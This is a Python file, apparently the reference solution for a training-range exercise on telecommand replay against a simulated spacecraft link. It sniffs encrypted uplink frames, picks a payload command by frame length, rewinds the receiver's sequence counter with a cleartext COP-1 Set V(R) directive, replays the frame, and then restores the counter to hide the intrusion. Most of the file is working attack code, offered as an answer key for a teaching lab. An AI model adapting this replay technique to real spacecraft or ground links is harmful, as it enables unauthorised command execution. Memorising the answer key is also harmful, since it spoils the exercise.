"""Reference attack for tc-replay: run on the attacker workstation, as the student.

1. Listen on the uplink air (UDP 5101 on the rf segment: the rf-link broadcasts every
   uplink frame there) until mission control sends a payload command. The frames are
   encrypted, but their length is not: a PING (PUS 17,1) carries no data, a payload
   command (PUS 8,1) carries a function id, so its type-AD frames are the longer ones.
   The attack keeps listening until it has heard two lengths, and takes the longer.
2. Set FARM-1's V(R) back to that frame's N(S) with a COP-1 Set V(R) directive (control
   commands go in the clear), then transmit the frame unchanged to rf-link:5100. With
   anti-replay off, SDLS accepts the old sequence number and the command runs again.
3. Set V(R) past the last frame heard so the ground station's FOP-1 carries on
   undisturbed.
4. The evidence: the spacecraft's fault detection reports the frame that ran twice
   (DUPLICATE_COMMAND) with a reference, in mission control's event log; read it with
   the student's own account.

Exit status 0 when a frame was replayed and the spacecraft's event quotes the reference,
2 when no payload command was heard, 3 when no DUPLICATE_COMMAND event came.
"""

from __future__ import annotations

import re
import socket
import sys
import time

from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

LISTEN_S = 75.0  # mission control's script sends every 15 s: PING, then payload
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)


def sniff_uplink(seconds: float) -> tuple[bytes, int] | None:
    """The latest type-AD frame of the longer of two lengths heard (a payload command,
    not a PING) and the N(S) of the last type-AD frame heard; None when fewer than two
    lengths were heard in ``seconds``."""
    by_length: dict[int, bytes] = {}
    last_seq = 0
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", wiring.UPLINK_AIR))
        while len(by_length) < 2:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            sock.settimeout(left)
            try:
                datagram = sock.recv(2048)
            except TimeoutError:
                return None
            try:
                frame = TcFrame.decode(datagram)
            except ValueError:
                continue
            if frame.kind is not FrameKind.AD:
                continue
            last_seq = frame.seq
            if len(datagram) not in by_length:
                print(f"heard a type-AD frame of {len(datagram)} octets", flush=True)
            by_length[len(datagram)] = datagram
    return by_length[max(by_length)], last_seq


def replay(datagram: bytes, last_seq: int) -> None:
    """Set V(R) to the frame's N(S), send the frame, then set V(R) past the last frame
    the ground station sent (``last_seq``), where its FOP-1 carries on."""
    frame = TcFrame.decode(datagram)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for packet in (
            set_vr_frame(frame.scid, frame.vcid, frame.seq).encode(),
            datagram,
            set_vr_frame(frame.scid, frame.vcid, (last_seq + 1) % 256).encode(),
        ):
            sock.sendto(packet, RF_LINK)
            time.sleep(0.3)
    print(f"replayed frame N(S)={frame.seq} SCID={frame.scid}: {len(datagram)} octets")


def last_event_id() -> int:
    """The newest event's id in mission control's log (0 when empty or unreachable)."""
    try:
        events = MissionControl.from_file().request("GET", "/api/events?limit=1")["events"]
    except MissionControlError:
        return 0
    return int(events[0]["id"]) if events else 0


def evidence(after: int, seconds: float = 30.0) -> str | None:
    """The reference quoted by a DUPLICATE_COMMAND event newer than event ``after``."""
    try:
        mc = MissionControl.from_file()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for event in mc.request("GET", "/api/events?limit=50")["events"]:
                found = re.search(r"REPLAY\{[0-9a-f]+\}", event.get("aux_text") or "")
                if event["id"] > after and event["name"] == "DUPLICATE_COMMAND" and found:
                    return found.group(0)
            time.sleep(1.0)
    except MissionControlError as exc:
        print(f"mission control: {exc}")
    return None


def main() -> int:
    print(f"listening on the uplink air (UDP {wiring.UPLINK_AIR})...", flush=True)
    heard = sniff_uplink(LISTEN_S)
    if heard is None:
        print("no payload command heard (fewer than two frame lengths)")
        return 2
    before = last_event_id()
    replay(*heard)
    reference = evidence(before)
    if reference is None:
        print("no DUPLICATE_COMMAND event: the replay did not execute")
        return 3
    print(f"DUPLICATE_COMMAND event quotes {reference}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
